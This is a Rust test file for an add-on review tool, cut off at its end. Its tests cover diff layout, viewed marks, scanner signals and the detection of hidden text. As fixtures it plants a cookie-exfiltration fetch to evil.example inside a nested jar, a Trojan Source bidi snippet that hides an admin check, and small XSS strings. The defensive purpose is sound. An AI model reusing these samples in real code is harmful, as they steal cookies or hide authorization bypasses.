use super::*;
use std::ops::Range;

use crate::layout::build_spans;
use vetter_archive::Limits;
use vetter_diff::{DiffOptions, FileChange, FileStatus, RowKind, Whitespace, diff_trees};
use vetter_fixtures::addons::{Addon, AddonFile, mv2_addon, next_version};
use vetter_store::Store;
use vetter_syntax::highlight::Class;

fn import(store: &mut Store, name: &str, addon: &Addon) -> i64 {
    store
        .import_archive(name, &addon.to_xpi(), &Limits::default(), &mut |_| {})
        .unwrap()
        .version_id
}

/// A cache holding the MV2 fixture and its next version; returns (store, dir, old id, new id).
fn two_versions() -> (Store, tempfile::TempDir, i64, i64) {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(dir.path()).unwrap();
    let v1 = mv2_addon();
    let v2 = next_version(&v1);
    let a = import(&mut store, "v1.xpi", &v1);
    let b = import(&mut store, "v2.xpi", &v2);
    (store, dir, a, b)
}

fn set_file(addon: &mut Addon, path: &str, data: &[u8]) {
    match addon.files.iter_mut().find(|f| f.path == path) {
        Some(f) => f.data = data.to_vec(),
        None => addon.files.push(AddonFile {
            path: path.to_owned(),
            data: data.to_vec(),
        }),
    }
}

fn index_of(session: &ReviewSession, path: &str) -> usize {
    session
        .summary()
        .files
        .iter()
        .position(|f| f.change.path == path)
        .unwrap_or_else(|| panic!("{path} is not in the review"))
}

/// The text of a cell, joined from its spans.
fn cell_text(cell: &Option<ViewCell>) -> String {
    cell.as_ref()
        .map(|c| c.spans.iter().map(|s| s.text.as_str()).collect())
        .unwrap_or_default()
}

#[test]
fn cached_addons_default_to_previous_then_latest() {
    let (store, _dir, a, b) = two_versions();
    let addons = cached_addons(&store).unwrap();
    assert_eq!(addons.len(), 1);
    assert_eq!(addons[0].default_pair(), Some((a, b)));
}

#[test]
fn summary_lists_changes_and_permission_additions() {
    let (store, _dir, a, b) = two_versions();
    let session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let s = session.summary();
    assert_eq!(s.permissions.permissions.added, vec!["notifications"]);
    let status = |p: &str| s.files[index_of(&session, p)].change.status;
    assert_eq!(status("background.js"), FileStatus::Modified);
    assert_eq!(status("lib/telemetry.js"), FileStatus::Added);
    assert_eq!(status("popup/popup.css"), FileStatus::Deleted);
    assert_eq!(s.viewed, 0);
}

#[test]
fn refuses_versions_of_two_different_addons() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(dir.path()).unwrap();
    let a = import(&mut store, "a.xpi", &mv2_addon());
    let b = import(&mut store, "b.xpi", &vetter_fixtures::addons::mv3_addon());
    let err = ReviewSession::open(&store, a, b, Whitespace::All)
        .err()
        .unwrap();
    assert!(matches!(err, ReviewError::DifferentAddons { .. }), "{err}");
}

#[test]
fn viewed_mark_survives_reopening_and_follows_the_bytes() {
    let (mut store, _dir, a, b) = two_versions();
    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let bg = index_of(&session, "background.js");
    assert_eq!(session.set_viewed(&store, bg, true).unwrap(), 1);
    drop(session);

    // Same bytes in a later review: still viewed.
    let again = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    assert!(again.summary().files[index_of(&again, "background.js")].viewed);
    assert_eq!(again.summary().viewed, 1);

    // A third version that changes background.js again: no longer viewed, while a file whose
    // bytes stayed as they were when marked keeps its mark.
    let mut s2 = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let tel = index_of(&s2, "lib/telemetry.js");
    s2.set_viewed(&store, tel, true).unwrap();
    let mut v3 = next_version(&mv2_addon());
    set_file(&mut v3, "background.js", b"// rewritten\n");
    let mut m = v3.manifest();
    m["version"] = "9.9.9".into();
    set_file(&mut v3, "manifest.json", &serde_json::to_vec(&m).unwrap());
    let c = import(&mut store, "v3.xpi", &v3);
    let s3 = ReviewSession::open(&store, a, c, Whitespace::All).unwrap();
    assert!(!s3.summary().files[index_of(&s3, "background.js")].viewed);
    assert!(s3.summary().files[index_of(&s3, "lib/telemetry.js")].viewed);
}

#[test]
fn unmarking_removes_the_mark() {
    let (store, _dir, a, b) = two_versions();
    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let bg = index_of(&session, "background.js");
    session.set_viewed(&store, bg, true).unwrap();
    assert_eq!(session.set_viewed(&store, bg, false).unwrap(), 0);
    let again = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    assert_eq!(again.summary().viewed, 0);
}

#[test]
fn deleted_file_is_not_viewed_because_its_old_bytes_were() {
    let (store, _dir, a, b) = two_versions();
    // Marking popup.css viewed as a deletion must not mark it in a review where it exists.
    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let css = index_of(&session, "popup/popup.css");
    session.set_viewed(&store, css, true).unwrap();
    let back = ReviewSession::open(&store, b, a, Whitespace::All).unwrap();
    assert!(!back.summary().files[index_of(&back, "popup/popup.css")].viewed);
}

/// Two versions of one add-on whose `big.js` is `old` and then `new`.
fn pair_with(old: &str, new: &str) -> (Store, tempfile::TempDir, ReviewSession, usize) {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(dir.path()).unwrap();
    let mut v1 = mv2_addon();
    set_file(&mut v1, "big.js", old.as_bytes());
    let mut v2 = next_version(&mv2_addon());
    set_file(&mut v2, "big.js", new.as_bytes());
    let a = import(&mut store, "v1.xpi", &v1);
    let b = import(&mut store, "v2.xpi", &v2);
    let session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let i = index_of(&session, "big.js");
    (store, dir, session, i)
}

fn numbered(n: usize) -> String {
    (0..n).map(|i| format!("let v{i} = {i};\n")).collect()
}

#[test]
fn unified_layout_hides_unchanged_lines_in_gaps_that_expand() {
    let old = numbered(100);
    let new = old.replace("let v50 = 50;", "let v50 = 77;");
    let (store, _dir, mut s, i) = pair_with(&old, &new);
    let layout = s.view_file(&store, i, ViewOptions::default()).unwrap();
    // gap, 3 context, removed, added, 3 context, gap
    assert_eq!(layout.rows, 10);
    assert_eq!(layout.changes, vec![4]);
    let rows = s.rows(&store, i, 0, 10, 0, 200).unwrap();
    assert!(matches!(
        rows[0],
        ViewRow::Gap {
            gap: 0,
            hidden: 47,
            ..
        }
    ));
    assert!(matches!(
        rows[9],
        ViewRow::Gap {
            gap: 1,
            hidden: 46,
            ..
        }
    ));
    let ViewRow::Line { old, new, .. } = &rows[4] else {
        panic!("row 4 is a line")
    };
    assert_eq!(old.as_ref().unwrap().kind, RowKind::Removed);
    assert_eq!(old.as_ref().unwrap().line, 51);
    assert!(new.is_none());
    assert_eq!(cell_text(old), "let v50 = 50;");
    // The changed word is marked, the rest is not.
    let changed: String = old
        .as_ref()
        .unwrap()
        .spans
        .iter()
        .filter(|s| s.changed)
        .map(|s| s.text.as_str())
        .collect();
    assert_eq!(changed, "50");

    let expanded = s.expand(&store, i, 0, 10).unwrap();
    assert_eq!(expanded.rows, 20);
    let all = s.expand(&store, i, 0, u32::MAX).unwrap();
    // Lines 1-53 as context, the change, 3 context, and the gap below.
    assert_eq!(all.rows, 50 + 2 + 3 + 1);
    let top = s.rows(&store, i, 0, 1, 0, 200).unwrap();
    assert!(matches!(&top[0], ViewRow::Line { old: Some(c), .. } if c.line == 1));
}

#[test]
fn split_layout_pairs_removed_and_added_lines() {
    let old = numbered(10);
    let new = old
        .replace("let v4 = 4;\n", "let v4 = 44;\nlet extra = 1;\n")
        .replace("let v5 = 5;\n", "");
    let (store, _dir, mut s, i) = pair_with(&old, &new);
    let opts = ViewOptions {
        layout: DiffLayout::Split,
        wrap: None,
        pretty: false,
    };
    let layout = s.view_file(&store, i, opts).unwrap();
    let rows = s.rows(&store, i, 0, layout.rows, 0, 200).unwrap();
    let pairs: Vec<(String, String)> = rows
        .iter()
        .filter_map(|r| match r {
            ViewRow::Line { old, new, .. } => Some((cell_text(old), cell_text(new))),
            ViewRow::Gap { .. } => None,
        })
        .collect();
    assert!(pairs.contains(&("let v4 = 4;".into(), "let v4 = 44;".into())));
    assert!(pairs.contains(&("let v5 = 5;".into(), "let extra = 1;".into())));
    assert!(pairs.contains(&("let v3 = 3;".into(), "let v3 = 3;".into())));
}

#[test]
fn wrapping_splits_a_giant_line_into_rows_of_the_wrap_width() {
    let giant = "x".repeat(1_000_000);
    let (store, _dir, mut s, i) = pair_with("a\n", &format!("a\n{giant}\n"));
    let wrapped = s
        .view_file(
            &store,
            i,
            ViewOptions {
                layout: DiffLayout::Unified,
                wrap: Some(100),
                pretty: false,
            },
        )
        .unwrap();
    assert_eq!(wrapped.rows, 1 + 10_000);
    // A piece in the middle of the line holds exactly its 100 characters.
    let rows = s.rows(&store, i, 5_000, 2, 0, 100).unwrap();
    let ViewRow::Line { new, segment, .. } = &rows[0] else {
        panic!("a line")
    };
    assert_eq!(*segment, 4_999);
    assert_eq!(cell_text(new).len(), 100);
    assert!(new.as_ref().unwrap().more);

    // Without wrapping it is one row, served a column window at a time.
    let flat = s.view_file(&store, i, ViewOptions::default()).unwrap();
    assert_eq!(flat.rows, 2);
    assert_eq!(flat.max_cols, 1_000_000);
    let rows = s.rows(&store, i, 1, 1, 999_990, 500).unwrap();
    let ViewRow::Line { new, .. } = &rows[0] else {
        panic!("a line")
    };
    assert_eq!(cell_text(new), "x".repeat(10));
    assert!(!new.as_ref().unwrap().more);
}

#[test]
fn column_window_counts_characters_not_bytes() {
    let line = "é".repeat(3_000) + "END";
    let (store, _dir, mut s, i) = pair_with("a\n", &format!("a\n{line}\n"));
    s.view_file(&store, i, ViewOptions::default()).unwrap();
    let rows = s.rows(&store, i, 1, 1, 2_998, 5).unwrap();
    let ViewRow::Line { new, .. } = &rows[0] else {
        panic!("a line")
    };
    assert_eq!(cell_text(new), "ééEND");
}

#[test]
fn window_requests_are_capped() {
    let old = numbered(5_000);
    let new = numbered(5_000).replace("let v", "var v");
    let (store, _dir, mut s, i) = pair_with(&old, &new);
    let layout = s.view_file(&store, i, ViewOptions::default()).unwrap();
    assert_eq!(layout.rows, 10_000);
    let rows = s.rows(&store, i, 0, u32::MAX, 0, u32::MAX).unwrap();
    assert_eq!(rows.len(), MAX_WINDOW_ROWS as usize);
    let past_end = s.rows(&store, i, 20_000, 10, 0, 10).unwrap();
    assert!(past_end.is_empty());
}

#[test]
fn find_reports_rows_of_matching_lines() {
    let old = numbered(20);
    let new = old.replace("let v10 = 10;", "let v10 = eval(x);");
    let (store, _dir, mut s, i) = pair_with(&old, &new);
    let layout = s.view_file(&store, i, ViewOptions::default()).unwrap();
    let hits = s.find(&store, i, "EVAL").unwrap();
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0], layout.changes[0] + 1);
    assert!(s.find(&store, i, "").unwrap().is_empty());
}

#[test]
fn binary_files_have_no_line_view_but_serve_their_bytes() {
    let (store, _dir, a, b) = two_versions();
    let dir2 = tempfile::tempdir().unwrap();
    let mut store2 = Store::open(dir2.path()).unwrap();
    let mut v1 = mv2_addon();
    let mut v2 = next_version(&mv2_addon());
    set_file(&mut v1, "data.bin", b"\x00\x01\x02old");
    set_file(&mut v2, "data.bin", b"\x00\x01\x02new!");
    let x = import(&mut store2, "v1.xpi", &v1);
    let y = import(&mut store2, "v2.xpi", &v2);
    let mut s = ReviewSession::open(&store2, x, y, Whitespace::All).unwrap();
    let i = index_of(&s, "data.bin");
    let err = s
        .view_file(&store2, i, ViewOptions::default())
        .err()
        .unwrap();
    assert!(matches!(err, ReviewError::NotText { .. }), "{err}");
    let (bytes, mime) = s.file_bytes(&store2, i, Side::New).unwrap();
    assert_eq!(bytes, b"\x00\x01\x02new!");
    assert_eq!(mime, "application/octet-stream");
    drop((store, a, b));
}

#[test]
fn added_file_has_no_old_side() {
    let (store, _dir, a, b) = two_versions();
    let s = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let i = index_of(&s, "lib/telemetry.js");
    let err = s.file_bytes(&store, i, Side::Old).err().unwrap();
    assert!(
        matches!(
            err,
            ReviewError::NoSide {
                side: Side::Old,
                ..
            }
        ),
        "{err}"
    );
}

#[test]
fn image_type_recognises_png_and_refuses_svg() {
    assert_eq!(image_type(b"\x89PNG\r\n\x1a\n...."), "image/png");
    assert_eq!(
        image_type(b"<svg onload=alert(1)>"),
        "application/octet-stream"
    );
}

#[test]
fn build_spans_cuts_at_tokens_and_changes_within_the_window() {
    use vetter_syntax::highlight::Token;
    let content = "let x = 1;";
    let tokens = [
        Token {
            start: 0,
            end: 3,
            class: Class::Keyword,
        },
        Token {
            start: 3,
            end: 10,
            class: Class::Plain,
        },
    ];
    let changed = [Range { start: 8, end: 9 }];
    let spans = build_spans(content, &tokens, &changed, 2..9);
    let got: Vec<(&str, Class, bool)> = spans
        .iter()
        .map(|s| (s.text.as_str(), s.class, s.changed))
        .collect();
    assert_eq!(
        got,
        vec![
            ("t", Class::Keyword, false),
            (" x = ", Class::Plain, false),
            ("1", Class::Plain, true),
        ]
    );
}

#[test]
fn hidden_characters_are_drawn_as_markers_and_intraline_changes_stay_on_their_words() {
    // Trojan Source (CVE-2021-42574): the RLO and isolates make the check read as a comment.
    let old = "let a = 1;\nif (isAdmin) { return; }\n";
    let new =
        "let a = 1;\nif (isAdmin) { /*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} return; }\n";
    let (store, _dir, mut s, i) = pair_with(old, new);
    s.view_file(&store, i, ViewOptions::default()).unwrap();
    let rows = s.rows(&store, i, 0, 10, 0, 200).unwrap();
    let added = rows
        .iter()
        .find_map(|r| match r {
            ViewRow::Line {
                new: Some(c),
                old: None,
                ..
            } if c.kind == RowKind::Added => Some(c.clone()),
            _ => None,
        })
        .expect("an added line");
    let markers: Vec<&str> = added
        .spans
        .iter()
        .filter(|s| s.hidden)
        .map(|s| s.text.as_str())
        .collect();
    assert_eq!(markers, ["<U+202E>", "<U+2066>", "<U+2069>", "<U+2066>"]);
    // No span carries a hidden character itself: each is drawn, never passed through.
    assert!(
        added
            .spans
            .iter()
            .all(|s| !vetter_text::has_hidden(&s.text))
    );
    assert_eq!(
        cell_text(&Some(added.clone())),
        "if (isAdmin) { /*<U+202E> } <U+2066>if (isAdmin)<U+2069> <U+2066> return; }"
    );
    // The words the line gained are marked changed, the shared prefix and suffix are not: the
    // intraline ranges were cut on the stored text, before the markers.
    let first = &added.spans[0];
    assert!(first.text.starts_with("if") && !first.changed);
    assert!(added.spans.iter().any(|s| s.hidden && s.changed));
    let last = added.spans.last().unwrap();
    assert!(
        last.text.ends_with("return; }") && !last.changed,
        "{last:?}"
    );
}

/// The MV2 fixture and its next version, both holding `lib/engine.jar` (whose `core.js`
/// changes between them) and, in the newer one, a Trojan Source file and a file whose name
/// hides a zero-width space.
fn pair_with_hidden_text_and_a_nested_jar() -> (Store, tempfile::TempDir, i64, i64) {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(dir.path()).unwrap();
    let mut v1 = mv2_addon();
    let jar1 = vetter_fixtures::zip_files(&[("core.js", "run();\n"), ("README", "engine\n")]);
    set_file(&mut v1, "lib/engine.jar", &jar1);
    let mut v2 = next_version(&mv2_addon());
    let jar2 = vetter_fixtures::zip_files(&[
        (
            "core.js",
            "run();\nfetch(\"https://evil.example/\" + document.cookie);\n",
        ),
        ("README", "engine\n"),
    ]);
    set_file(&mut v2, "lib/engine.jar", &jar2);
    set_file(
        &mut v2,
        "admin.js",
        "var ok = 1;\nif (isAdmin) { /*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} x(); }\n"
            .as_bytes(),
    );
    set_file(&mut v2, "pay\u{200B}ment.js", b"pay();\n");
    let a = import(&mut store, "v1.xpi", &v1);
    let b = import(&mut store, "v2.xpi", &v2);
    (store, dir, a, b)
}

#[test]
fn hidden_characters_and_nested_archives_are_signals_of_their_files() {
    let (store, _dir, _a, b) = pair_with_hidden_text_and_a_nested_jar();
    let signals = content_signals(&store, b).unwrap();
    let got: Vec<(&str, &str, u32, Option<u32>)> = signals
        .iter()
        .map(|s| (s.path.as_str(), s.rule.as_str(), s.line, s.column))
        .collect();
    assert_eq!(
        got,
        [
            ("admin.js", RULE_HIDDEN_TEXT, 2, Some(18)),
            ("lib/engine.jar", RULE_NESTED_ARCHIVE, 1, None),
            ("pay\u{200B}ment.js", RULE_HIDDEN_NAME, 1, None),
        ]
    );
    assert!(signals.iter().all(|s| s.source == SignalSource::Local));
    let admin = signals[0].message.as_deref().unwrap();
    assert!(
        admin.contains("U+202E RIGHT-TO-LEFT OVERRIDE")
            && admin.contains("U+2066 LEFT-TO-RIGHT ISOLATE ×2"),
        "{admin}"
    );
    // The older version has neither hidden text nor a new file: only its jar is flagged.
    let older = content_signals(&store, _a).unwrap();
    assert_eq!(older.len(), 1);
    assert_eq!(older[0].rule, RULE_NESTED_ARCHIVE);
}

#[test]
fn files_inside_a_nested_archive_are_diffed_like_the_packages_own() {
    let (store, _dir, a, b) = pair_with_hidden_text_and_a_nested_jar();
    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let i = index_of(&session, "lib/engine.jar!/core.js");
    assert_eq!(
        session.summary().files[i].change.status,
        FileStatus::Modified
    );
    // The unchanged inner file is not listed as a change, like any unchanged file.
    assert!(
        !session
            .summary()
            .files
            .iter()
            .any(|f| f.change.path == "lib/engine.jar!/README")
    );
    session
        .view_file(&store, i, ViewOptions::default())
        .unwrap();
    let rows = session.rows(&store, i, 0, 10, 0, 200).unwrap();
    let added: Vec<String> = rows
        .iter()
        .filter_map(|r| match r {
            ViewRow::Line { new: Some(c), .. } if c.kind == RowKind::Added => {
                Some(cell_text(&Some(c.clone())))
            }
            _ => None,
        })
        .collect();
    assert_eq!(
        added,
        ["fetch(\"https://evil.example/\" + document.cookie);"]
    );
}

#[test]
fn every_signal_of_a_version_lists_the_servers_and_the_local_ones() {
    let (mut store, _dir, _a, b) = pair_with_hidden_text_and_a_nested_jar();
    let guid = store.version(b).unwrap().guid;
    store_signals(
        &mut store,
        b,
        r#"{"scanners": [{"scanner": "yara", "rule": "eval", "files": [{"path": "background.js", "lines": [1]}]}]}"#,
    );
    let all = version_signals(&store, b).unwrap();
    let rules: Vec<(&str, &str)> = all
        .iter()
        .map(|s| (s.scanner.as_str(), s.rule.as_str()))
        .collect();
    assert_eq!(
        rules,
        [
            ("yara", "eval"),
            (VETTER_SCANNER, RULE_HIDDEN_TEXT),
            (VETTER_SCANNER, RULE_NESTED_ARCHIVE),
            (VETTER_SCANNER, RULE_HIDDEN_NAME),
            // The capability analysis: the fixture's fetch and strings name three hosts, two
            // of them with no host permission.
            (VETTER_SCANNER, "endpoint"),
            (VETTER_SCANNER, "endpoint"),
            (VETTER_SCANNER, "endpoint"),
            (VETTER_SCANNER, "host-without-permission"),
            (VETTER_SCANNER, "host-without-permission"),
        ],
        "{guid}"
    );
}

#[test]
fn session_can_move_between_threads() {
    fn is_send<T: Send>() {}
    is_send::<ReviewSession>();
}

#[test]
fn image_side_is_served_as_a_data_url_and_text_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(dir.path()).unwrap();
    let png_a = vetter_fixtures::png::icon(4, [255, 0, 0]);
    let png_b = vetter_fixtures::png::icon(4, [0, 0, 255]);
    let mut v1 = mv2_addon();
    let mut v2 = next_version(&mv2_addon());
    set_file(&mut v1, "pic.png", &png_a);
    set_file(&mut v2, "pic.png", &png_b);
    let x = import(&mut store, "v1.xpi", &v1);
    let y = import(&mut store, "v2.xpi", &v2);
    let s = ReviewSession::open(&store, x, y, Whitespace::All).unwrap();
    let i = index_of(&s, "pic.png");
    let url = s.image_data_url(&store, i, Side::Old).unwrap();
    assert!(url.starts_with("data:image/png;base64,"), "{url}");
    let bg = index_of(&s, "background.js");
    let err = s.image_data_url(&store, bg, Side::New).err().unwrap();
    assert!(matches!(err, ReviewError::NotImage { .. }), "{err}");
}

#[test]
fn open_lists_files_before_counting_and_counts_arrive_later() {
    let (store, _dir, a, b) = two_versions();
    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let bg = index_of(&session, "background.js");
    assert_eq!(session.summary().files[bg].change.added, None);
    assert!(session.summary().pending > 0);
    let counter = session.line_counter();
    assert_eq!(counter.len(), session.summary().pending as usize);
    let mut counted = Vec::new();
    counter.run(&store, |c| counted.push(c)).unwrap();
    for c in counted {
        assert!(session.apply_counts(c).is_some());
    }
    let s = session.summary();
    assert_eq!(s.pending, 0);
    assert!(s.files[bg].change.added.unwrap() > 0);
    let whole = diff_trees(
        &crate::tree::version_tree(&store, a).unwrap(),
        &crate::tree::version_tree(&store, b).unwrap(),
        &DiffOptions::default(),
    )
    .unwrap();
    assert_eq!(
        s.totals, whole.totals,
        "late counts add up to the whole-tree diff"
    );
    let lazy: Vec<&FileChange> = s.files.iter().map(|f| &f.change).collect();
    let eager: Vec<&FileChange> = whole.files.iter().collect();
    assert_eq!(lazy, eager);
}

#[test]
fn opening_a_file_before_the_counter_counts_it_once() {
    let (store, _dir, a, b) = two_versions();
    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let counter = session.line_counter();
    let bg = index_of(&session, "background.js");
    let before = session.summary().pending;
    session
        .view_file(&store, bg, ViewOptions::default())
        .unwrap();
    assert_eq!(session.summary().pending, before - 1);
    let opened = session.summary().files[bg].change.clone();
    let mut told = Vec::new();
    counter
        .run(&store, |c| told.extend(session.apply_counts(c)))
        .unwrap();
    assert_eq!(session.summary().pending, 0);
    // The window hears of every file once, the opened one too, with the counts the view took:
    // before, it never heard of it and said "counting lines, 1 file to go" for good.
    assert_eq!(told.len(), before as usize);
    let again = told
        .iter()
        .find(|c| c.index as usize == bg)
        .expect("the opened file");
    assert_eq!(
        (again.kind, again.added, again.removed),
        (opened.kind, opened.added, opened.removed)
    );
    assert!(again.added.is_some_and(|n| n > 0));
}

#[test]
fn counts_of_a_replaced_session_are_refused_and_its_counter_stops() {
    let (store, _dir, a, b) = two_versions();
    let first = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let counter = first.line_counter();
    let mut second = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let mut stale = None;
    let other = first.line_counter();
    other
        .run(&store, |c| {
            stale.get_or_insert(c);
        })
        .unwrap();
    assert!(second.apply_counts(stale.unwrap()).is_none());
    drop(first);
    let mut ran = 0;
    counter.run(&store, |_| ran += 1).unwrap();
    assert_eq!(ran, 0, "a dropped session's counter does no work");
}

#[test]
fn renames_of_identical_bytes_are_listed_without_reading_content() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(dir.path()).unwrap();
    let v1 = mv2_addon();
    let mut v2 = next_version(&v1);
    let bytes = v1
        .files
        .iter()
        .find(|f| f.path == "background.js")
        .unwrap()
        .data
        .clone();
    v2.files.retain(|f| f.path != "background.js");
    set_file(&mut v2, "src/background.js", &bytes);
    let a = import(&mut store, "v1.xpi", &v1);
    let b = import(&mut store, "v2.xpi", &v2);
    let session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let f = &session.summary().files[index_of(&session, "src/background.js")].change;
    assert_eq!(f.status, FileStatus::Renamed);
    assert_eq!(f.old_path.as_deref(), Some("background.js"));
}

/// Stores a synced signals body for the add-on of version `id`, as sync would.
fn store_signals(store: &mut Store, id: i64, body: &str) {
    use vetter_store::queues::{QueueChange, QueuedEntry, RemoteAddon, RemoteVersion};
    let guid = store.version(id).unwrap().guid;
    let entry = QueueChange::Upsert(Box::new(QueuedEntry {
        id: 1,
        queue: "extension".to_owned(),
        addon: RemoteAddon {
            id: 7,
            guid,
            slug: "s".to_owned(),
            name: "n".to_owned(),
        },
        version: RemoteVersion {
            id: 70,
            version: "2.0".to_owned(),
            file_id: 700,
            status: "nominated".to_owned(),
            sha256: "ab".repeat(32),
            size: 1,
            url: "http://127.0.0.1/f".to_owned(),
            permissions: "[]".to_owned(),
            host_permissions: "[]".to_owned(),
        },
        due_date: String::new(),
        reasons: "[]".to_owned(),
        flags: "[]".to_owned(),
        weight: 0,
    }));
    store.apply_queue_page("extension", &[entry], "c").unwrap();
    store.apply_addon_metadata(7, &[], body).unwrap();
}

/// [`pair_with`], reopened after the server's signals `body` were synced for it.
fn pair_with_signals(
    old: &str,
    new: &str,
    body: &str,
) -> (Store, tempfile::TempDir, ReviewSession) {
    let (mut store, dir, session, _) = pair_with(old, new);
    let (a, b) = (session.summary().old.id, session.summary().new.id);
    drop(session);
    store_signals(&mut store, b, body);
    let session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    (store, dir, session)
}

#[test]
fn server_signals_are_read_leniently_and_capped() {
    let body = r#"{"scanners": [
        {"scanner": "yara", "rule": "eval_remote", "message": "<script>alert(1)</script>",
         "files": [{"path": "a.js", "lines": [3, 0, -1, "x", 9]}]},
        {"scanner": 5, "rule": "bad", "files": []},
        {"scanner": "customs", "rule": "r2", "files": [{"path": 1, "lines": [1]}, {"path": "b.js"}]}
    ]}"#;
    let got = parse_server_signals(body);
    assert_eq!(got.len(), 2, "{got:?}");
    assert_eq!(got[0].line, 3);
    assert_eq!(got[1].line, 9);
    assert_eq!(got[0].message.as_deref(), Some("<script>alert(1)</script>"));
    assert_eq!(got[0].source, SignalSource::Server);
    assert!(parse_server_signals("not json").is_empty());
    let many = format!(
        r#"{{"scanners":[{{"scanner":"s","rule":"r","files":[{{"path":"a","lines":[{}]}}]}}]}}"#,
        vec!["1"; MAX_SIGNALS + 5].join(",")
    );
    assert_eq!(parse_server_signals(&many).len(), MAX_SIGNALS);
}

#[test]
fn signals_land_on_their_rows_even_inside_collapsed_context() {
    let old = numbered(200);
    let new = old.replace("let v10 = 10;", "let v10 = 11;");
    let (store, _dir, mut session) = pair_with_signals(
        &old,
        &new,
        r#"{"scanners":[{"scanner":"yara","rule":"far_away","files":[{"path":"big.js","lines":[150, 5000]}]}]}"#,
    );
    assert_eq!(session.summary().signals.len(), 2);
    let i = index_of(&session, "big.js");
    let layout = session
        .view_file(&store, i, ViewOptions::default())
        .unwrap();
    assert_eq!(
        layout.signals.len(),
        1,
        "line 5000 does not exist; line 150 is shown"
    );
    let row = layout.signals[0].row;
    let rows = session.rows(&store, i, row, 1, 0, 100).unwrap();
    match &rows[0] {
        ViewRow::Line { new: Some(c), .. } => assert_eq!(c.line, 150),
        other => panic!("signal row is {other:?}"),
    }
}

fn local(rule: &str, line: u32) -> ReviewSignal {
    ReviewSignal {
        source: SignalSource::Local,
        scanner: "mine".into(),
        rule: rule.into(),
        message: None,
        path: "big.js".into(),
        line,
        column: Some(1),
    }
}

#[test]
fn local_signals_are_replaced_by_a_rescan_and_the_servers_are_kept() {
    let old = "a\nb\nc\n";
    let new = "a\nB\nc\nd\n";
    let (store, _dir, mut session) = pair_with_signals(
        old,
        new,
        r#"{"scanners":[{"scanner":"yara","rule":"server_rule","files":[{"path":"big.js","lines":[2]}]}]}"#,
    );
    let i = index_of(&session, "big.js");
    assert_eq!(
        session
            .view_file(&store, i, ViewOptions::default())
            .unwrap()
            .signals
            .len(),
        1
    );
    session
        .set_local_signals(&store, [local("first", 2), local("second", 4)])
        .unwrap();
    let rules = |s: &ReviewSession| -> Vec<String> {
        s.summary().signals.iter().map(|g| g.rule.clone()).collect()
    };
    assert_eq!(rules(&session), ["server_rule", "first", "second"]);
    // The file opened before the scan is laid out again with the new signals.
    let layout = session
        .view_file(&store, i, ViewOptions::default())
        .unwrap();
    assert_eq!(layout.signals.len(), 3);
    // A rescan replaces the local ones; a server-sourced signal cannot come in this way.
    let mut forged = local("forged", 1);
    forged.source = SignalSource::Server;
    session
        .set_local_signals(&store, [local("third", 3), forged])
        .unwrap();
    assert_eq!(rules(&session), ["server_rule", "third"]);
    session.set_local_signals(&store, []).unwrap();
    assert_eq!(rules(&session), ["server_rule"]);
}

#[test]
fn pretty_printing_diffs_the_printed_text_and_maps_signals_to_printed_lines() {
    let old = "function a(){var x=1;return x}function b(){return 2}\n";
    let new = "function a(){var x=1;return x}function b(){return eval(3)}\n";
    // The minified line holds both functions; `eval` is at byte column 49 (1-based 50).
    let col = new.find("eval").unwrap() + 1;
    let (store, _dir, mut session) = pair_with_signals(
        old,
        new,
        r#"{"scanners":[{"scanner":"yara","rule":"eval","files":[{"path":"big.js","lines":[1]}]}]}"#,
    );
    let mut eval_call = local("eval_call", 1);
    eval_call.column = Some(u32::try_from(col).unwrap());
    session.set_local_signals(&store, [eval_call]).unwrap();
    let i = index_of(&session, "big.js");
    let plain = session
        .view_file(&store, i, ViewOptions::default())
        .unwrap();
    assert!(!plain.pretty);
    let pretty = session
        .view_file(
            &store,
            i,
            ViewOptions {
                pretty: true,
                ..ViewOptions::default()
            },
        )
        .unwrap();
    assert!(pretty.pretty);
    assert!(pretty.rows > plain.rows, "printed text has more lines");
    let local = pretty.signals.iter().find(|s| s.signal == 1).unwrap();
    let rows = session.rows(&store, i, local.row, 1, 0, 200).unwrap();
    match &rows[0] {
        ViewRow::Line { new: Some(c), .. } => {
            let text: String = c.spans.iter().map(|s| s.text.as_str()).collect();
            assert!(
                text.contains("eval"),
                "the local match lands on the printed line of eval: {text:?}"
            );
            assert_ne!(
                c.kind,
                RowKind::Context,
                "only the changed function is a change"
            );
        }
        other => panic!("signal row is {other:?}"),
    }
    let hits = session.find(&store, i, "eval(3)").unwrap();
    assert_eq!(hits, vec![local.row], "find searches the printed rows");
}

/// The text of a display row: the new side's, or the old side's on a unified context row.
fn row_text(row: &ViewRow) -> String {
    match row {
        ViewRow::Line { old, new, .. } => {
            let side = match (new, old) {
                (Some(n), _) if !n.spans.is_empty() => n,
                (_, Some(o)) => o,
                (Some(n), None) => n,
                (None, None) => return String::new(),
            };
            side.spans.iter().map(|s| s.text.as_str()).collect()
        }
        ViewRow::Gap { .. } => String::new(),
    }
}

#[test]
fn revealing_a_line_of_a_file_unchanged_in_the_pair_lists_it_apart_from_the_progress() {
